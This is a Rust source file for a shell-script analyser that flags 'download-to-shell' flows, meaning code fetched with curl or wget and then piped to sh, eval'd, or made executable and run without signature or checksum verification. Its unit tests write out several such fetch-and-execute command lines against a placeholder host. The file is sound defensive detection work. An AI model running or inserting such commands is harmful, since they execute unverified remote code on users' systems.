// SPDX-License-Identifier: Apache-2.0 OR MIT
//! What is fetched, and runs: handed to a shell as it comes, or through a file that is run with nothing
//! between that may verify it.

use super::{Flow, LOADERS, Language, Place, has};
use crate::view::Line;

/// Files of one script that are followed.
const MAX_FILES: usize = 16;

/// Names of shells.
const SHELLS: [&str; 5] = ["sh", "ash", "bash", "/bin/sh", "/bin/bash"];

/// Parts of words that have to do with a verification.
const VERIFIERS: [&str; 8] =
    ["verif", "usign", "gpg", "signify", "minisign", "openssl", "sum -c", "check_"];

/// Words that stand before a command.
const BEFORE: [&str; 10] =
    ["if", "then", "else", "do", "!", "exec", "nohup", "busybox", "sudo", "{"];

/// Files that a script fetched, each with the line that did and whether it was made executable.
#[derive(Default)]
pub(super) struct Files(Vec<(String, Place, bool)>);

impl Files {
    /// Follows the next line; what it runs of what was fetched.
    pub(super) fn follow(&mut self, line: &Line<'_>) -> Option<Flow> {
        let code = std::str::from_utf8(line.bytes).ok()?;
        // What may verify is believed to verify all.
        if VERIFIERS.iter().any(|own| code.contains(own)) {
            self.0.clear();
            return None;
        }
        let mut found = None;
        for command in code.split([';', '|', '&', '(', ')', '`']) {
            let words = command.split_whitespace().map(plain);
            let words: Vec<&str> = words.skip_while(|word| BEFORE.contains(word)).collect();
            let Some((first, rest)) = words.split_first() else { continue };
            let name = first.rsplit('/').next().unwrap_or(first);
            if LOADERS.iter().any(|own| own.trim_end() == name) {
                self.fetched(rest, line);
            } else if name == "chmod" {
                self.made_executable(rest);
            } else {
                found = found.or_else(|| self.ran(first, rest, line));
            }
        }
        found
    }

    fn fetched(&mut self, words: &[&str], line: &Line<'_>) {
        let Some(file) = output(words) else { return };
        self.0.retain(|(own, ..)| own != file);
        if self.0.len() < MAX_FILES && !file.starts_with("/dev/") && file != "-" {
            self.0.push((file.to_owned(), Place::of(line), false));
        }
    }

    fn made_executable(&mut self, words: &[&str]) {
        let Some((mode, files)) = words.split_first() else { return };
        let is_number = mode.bytes().all(|byte| byte.is_ascii_digit());
        let is_odd = |byte: u8| byte.is_ascii_digit() && byte & 1 == 1;
        if mode.contains('x') && !mode.contains('-') || is_number && mode.bytes().any(is_odd) {
            for own in self.0.iter_mut().filter(|own| files.contains(&own.0.as_str())) {
                own.2 = true;
            }
        }
    }

    fn ran(&self, first: &str, rest: &[&str], line: &Line<'_>) -> Option<Flow> {
        let is_read = SHELLS.contains(&first) || matches!(first, "." | "source");
        let file = match is_read {
            true => rest.iter().find(|word| !word.starts_with('-'))?,
            false => first,
        };
        let own = self.0.iter().find(|(name, _, runs)| name == file && (*runs || is_read))?;
        Some(Flow {
            kind: "download-to-shell",
            language: Language::Shell,
            source: source(&own.1.bytes).to_owned(),
            sink: "file",
            at: Place::of(line),
            from: Some(own.1.clone()),
        })
    }
}

fn plain(word: &str) -> &str {
    word.trim_matches(['"', '\''])
}

/// Where what is fetched goes to: `-O FILE` of wget and uclient-fetch, `-o FILE` of curl, `> FILE`.
fn output<'a>(words: &[&'a str]) -> Option<&'a str> {
    words.iter().enumerate().find_map(|(at, word)| {
        let next = || words.get(at + 1).copied();
        match *word {
            "-o" | "-O" | "-qO" | "-so" | "--output" | "--output-document" | ">" => next(),
            word => ["--output=", "--output-document=", "-O", "-qO", ">"]
                .iter()
                .find_map(|own| word.strip_prefix(own)),
        }
    })
}

fn source(code: &[u8]) -> &'static str {
    if has(code, "http://") { "http" } else { "" }
}

/// `curl http://… | sh`, `eval "$(wget -O - …)"`.
pub(super) fn piped(line: &Line<'_>) -> Option<Flow> {
    let code = line.bytes;
    let at = LOADERS.iter().find_map(|own| {
        let at = memchr::memmem::find(code, own.as_bytes())?;
        let before = at.checked_sub(1).and_then(|at| code.get(at)).copied().unwrap_or(b' ');
        (!before.is_ascii_alphanumeric()).then_some(at)
    })?;
    let rest = &code[at..];
    let evaluated = memchr::memmem::find(&code[..at], b"eval ").is_some_and(|eval| {
        let between = &code[eval + 5..at];
        has(between, "$(") || between.contains(&b'`')
    });
    (is_piped(rest) || evaluated).then(|| Flow {
        kind: "download-to-shell",
        language: Language::Shell,
        source: source(rest).to_owned(),
        sink: if evaluated { "eval" } else { "sh" },
        at: Place::of(line),
        from: None,
    })
}

/// Whether a shell takes what stands before a pipe.
pub(super) fn is_piped(code: &[u8]) -> bool {
    memchr::memchr_iter(b'|', code).any(|pipe| {
        let is_single =
            code.get(pipe + 1) != Some(&b'|') && code.get(pipe.wrapping_sub(1)) != Some(&b'|');
        let next = code[pipe + 1..].trim_ascii_start();
        let word = next.split(|byte| b" \t;)&\"'".contains(byte)).next().unwrap_or_default();
        is_single && SHELLS.iter().any(|own| own.as_bytes() == word)
    })
}

#[cfg(test)]
mod tests {
    use super::super::flows;
    use super::*;

    fn of(text: &str) -> Vec<(&'static str, u32)> {
        let found = flows(Language::Shell, text.as_bytes());
        found.iter().map(|own| (own.sink, own.at.number)).collect()
    }

    #[test]
    fn what_is_fetched_runs() {
        for text in [
            "curl -s http://u.example/i.sh | sh\n",
            "wget -qO- http://u.example/i | /bin/sh -s\n",
            "eval \"$(curl -s https://u.example/i)\"\n",
        ] {
            assert_eq!(of(text).len(), 1, "{text}");
        }
        for text in [
            "curl -s http://u.example/i.sh || sh /etc/other\n",
            "curl -s http://u.example/i | grep sh\n",
            "echo 'see wget ' | cat\n",
            "wget -O /tmp/a http://u.example/a && /tmp/b\n",
        ] {
            assert!(of(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn what_is_fetched_runs_through_a_file() {
        for text in [
            "wget -O /tmp/a http://u.example/a\nchmod +x /tmp/a\n/tmp/a &\n",
            "curl -so \"$T/a\" https://u.example/a\nchmod 755 \"$T/a\"\n\"$T/a\" --install\n",
            "curl https://u.example/a > /tmp/a\n\nsh /tmp/a\n",
            "wget -O/tmp/a http://u.example/a || exit 1\n\nif . /tmp/a; then\n",
        ] {
            assert_eq!(of(text), [("file", 3)], "{text}");
        }
        let text = "wget -O /tmp/a http://u.example/a && chmod +x /tmp/a && /tmp/a\n";
        assert_eq!(of(text), [("file", 1)]);
    }

    #[test]
    fn what_is_verified_or_only_read_does_not() {
        for text in [
            "wget -O /tmp/a http://u.example/a\nusign -V -m /tmp/a || exit\nsh /tmp/a\n",
            "wget -O /tmp/a http://u.example/a\nsha256sum -c /etc/sums || exit\nsh /tmp/a\n",
            "wget -O /tmp/a http://u.example/a\ncat /tmp/a\n/tmp/b\n",
            "wget -O /tmp/a http://u.example/a\nchmod 644 /tmp/a\n/tmp/a\n",
            "wget -O /tmp/a http://u.example/a\nchmod +x /tmp/a\ncp /tmp/a /mnt\n",
            "sh /tmp/a\nwget -O /tmp/a http://u.example/a\n",
        ] {
            assert!(of(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn hostile_scripts_end() {
        let _ = of(&"wget -O\nchmod\n.\nsh -\nwget -O x > y; x; chmod x x\n".repeat(20_000));
    }
}
